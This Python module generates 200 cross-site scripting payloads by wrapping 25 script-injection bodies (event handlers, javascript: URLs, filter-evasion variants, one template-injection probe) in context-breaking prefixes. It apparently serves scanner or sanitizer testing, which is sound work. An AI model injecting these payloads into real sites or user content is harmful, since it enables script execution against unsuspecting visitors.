"""Two hundred ways to have a page run what somebody wrote; each would call alert."""

from itertools import product

_BODIES = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1) onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>press</a>",
    "<a href='java&#10;script:alert(1)'>press</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<object data=javascript:alert(1)></object>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<form action=javascript:alert(1)><button>press</button></form>",
    "<base href=javascript:alert(1)//>",
    "<template><script>alert(1)</script></template>",
    "{{ ''.__class__.__mro__ }}<script>alert(1)</script>",
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</option></select>{}",
    "--><!--{}",
    "\u202e{}\u202c",
)

PAYLOADS = [around.format(body) for around, body in product(_AROUND, _BODIES)]
